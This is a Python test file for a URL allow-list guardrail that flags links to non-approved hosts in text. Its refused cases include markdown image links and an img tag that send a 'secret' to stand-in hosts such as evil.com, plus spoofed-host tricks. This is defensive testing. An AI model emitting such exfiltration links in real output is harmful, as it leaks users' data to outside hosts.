from __future__ import annotations

import pytest
from tests.guardrails.looking import finds

from dragoman.config.guards import Urls
from dragoman.guardrails.urls import AllowedHosts

LOOK = AllowedHosts(Urls(allow=("example.com", "*.example.org")))


@pytest.mark.parametrize(
    "text",
    [
        "See https://example.com/a?b=c and http://sub.example.org.",
        "![logo](https://example.com/x.png) and ![local](/x.png)",
        "no link at all, 1.5 of them",
    ],
)
def test_allowed(text: str) -> None:
    assert finds(LOOK, text) is None


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.test.com/log?d=secret)",
        "![x](//evil.com/log)",
        '<img src="https://evil.com/p.gif">',
        "go to https://example.com.evil.com/",
        "go to https://example.com@evil.com/",
        "https://example.org/ is not below itself",
        "www.evil.com has it",
        "https://ev\u200bil.com/x",
    ],
)
def test_refused(text: str) -> None:
    assert finds(LOOK, text) is not None
